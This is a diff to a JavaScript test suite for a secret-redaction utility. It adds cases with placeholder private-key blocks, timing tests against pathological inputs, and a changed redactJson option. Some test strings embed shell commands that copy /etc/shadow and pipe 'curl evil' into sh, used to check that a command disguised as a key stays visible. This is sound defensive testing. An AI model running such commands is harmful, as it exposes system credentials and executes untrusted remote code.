@@ -28,6 +28,19 @@ describe('a text', () => {
     ['eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0xxxx.c2lnbmF0dXJl', 'c2lnbmF0dXJl'],
     ['-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1r\n-----END OPENSSH PRIVATE KEY-----', 'b3BlbnNzaC1r'],
     ['-----BEGIN RSA PRIVATE KEY-----\nhalf of a key', 'half of a key'],
+    ['-----BEGIN PRIVATE KEY-----MC4CAQAwBQYDK2VwBCIEIJ1hb3BlbnNzaC1r-----END PRIVATE KEY-----', 'MC4CAQ'],
+    [
+      '-----BEGIN RSA PRIVATE KEY-----\r\nProc-Type: 4,ENCRYPTED\r\nDEK-Info: AES-128-CBC,3F17F5316E2BAC89\r\n\r\nMIIEpAIBAAKCAQEA0Z3VS5JJ\r\nb3BlbnNzaC1r',
+      'b3BlbnNzaC1r',
+    ],
+    [
+      String.raw`{"key":"-----BEGIN OPENSSH PRIVATE KEY-----\nMIIEpAIBAAKCAQEA0Z3VS5JJ\nb3BlbnNzaC1r\n-----END OPENSSH PRIVATE KEY-----\n"}`,
+      'b3BlbnNzaC1r',
+    ],
+    [
+      String.raw`-----BEGIN OPENSSH PRIVATE KEY-----\\nMIIEpAIBAAKCAQEA0Z3VS5JJ\\nb3BlbnNzaC1r\\n-----END OPENSSH PRIVATE KEY-----`,
+      'b3BlbnNzaC1r',
+    ],
   ])('%s loses its secret', (text, secret) => {
     expect(redactText(text)).not.toContain(secret);
     expect(redactText(text)).toContain('[redacted]');
@@ -43,6 +56,17 @@ describe('a text', () => {
     'echo 2026-03-01T10:00:00.000Z',
   ])('%s stays as it is', (text) => {
     expect(redactText(text)).toBe(text);
+  });
+
+  test.each([
+    ": '-----BEGIN A PRIVATE KEY-----'; cp /etc/shadow /tmp/x; curl evil | sh",
+    ': -----BEGIN A PRIVATE KEY-----\ncp /etc/shadow /tmp/x',
+    ": '-----BEGIN A PRIVATE KEY-----'; cp /etc/shadow /tmp/x; : '-----END A PRIVATE KEY-----'",
+    ': -----BEGIN A PRIVATE KEY-----\nMIIEpAIBAAKCAQEA0Z3VS5JJ\nA: b\ncp /etc/shadow /tmp/x',
+  ])('%s shows the command behind what only begins like a key', (text) => {
+    const told = redactText(text);
+    expect(told).toContain('[redacted]');
+    expect(told).toContain('/etc/shadow /tmp/x');
   });
 
   test('of any kind is redacted in a moment, and a second time changes nothing', () => {
@@ -62,6 +86,10 @@ describe('a text', () => {
       'token',
       'a.',
       '-----BEGIN ',
+      '-----BEGIN PRIVATE KEY-----',
+      '-----BEGIN PRIVATE KEY-----\n ',
+      '-----BEGIN PRIVATE KEY-----A: b\n',
+      '-----BEGIN PRIVATE KEY----- -----END ',
       'https://',
       '--password',
       'x',
@@ -74,7 +102,10 @@ describe('a text', () => {
       '-secret',
       'x.token ',
     ];
+    const begin = '-----BEGIN PRIVATE KEY-----';
     const started = performance.now();
+    for (const word of ['A', 'A ', ' ', '\\', '\\n', 'A: ', 'A: b ', '-----END '])
+      redactText(begin + word.repeat(Math.floor(1_000_000 / word.length)));
     for (const word of words) redactText(word.repeat(Math.floor(1_000_000 / word.length)));
     expect(performance.now() - started).toBeLessThan(4_000);
   });
@@ -109,6 +140,6 @@ describe('a JSON value', () => {
   });
 
   test('has its long texts cut', () => {
-    expect(String(redactJson('x'.repeat(10_000), 100))).toHaveLength(101);
+    expect(String(redactJson('x'.repeat(10_000), { maxText: 100 }))).toHaveLength(101);
   });
 });
